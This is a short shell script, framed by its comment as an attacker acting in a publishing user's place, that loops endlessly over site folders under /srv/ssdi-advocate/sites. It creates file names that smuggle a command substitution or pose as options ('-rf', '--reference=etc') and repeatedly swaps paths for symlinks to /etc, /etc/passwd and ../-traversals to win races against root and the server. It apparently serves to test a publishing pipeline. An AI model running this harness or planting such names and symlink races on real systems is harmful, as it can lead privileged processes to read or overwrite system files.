# An attacker in the publishing user's place: names that a script could run, and links that come and go beside what root and the server read.
cd /srv/ssdi-advocate/sites
while :; do
  for own in */; do
    mkdir -p "$own/new-a b;\$(touch /tmp/ran)" "$own/-rf" "$own/--reference=etc
live"
    for name in live status.json new-1 live/assets live/error.html; do
      mv -T "$own/$name" "$own/away"
      ln -sn /etc "$own/$name"
      ln -sfn /etc/passwd "$own/$name"
      ln -sfn ../../../../etc "$own/$name"
      rm "$own/$name"
      mv -T "$own/away" "$own/$name"
    done
  done
done 2>/dev/null
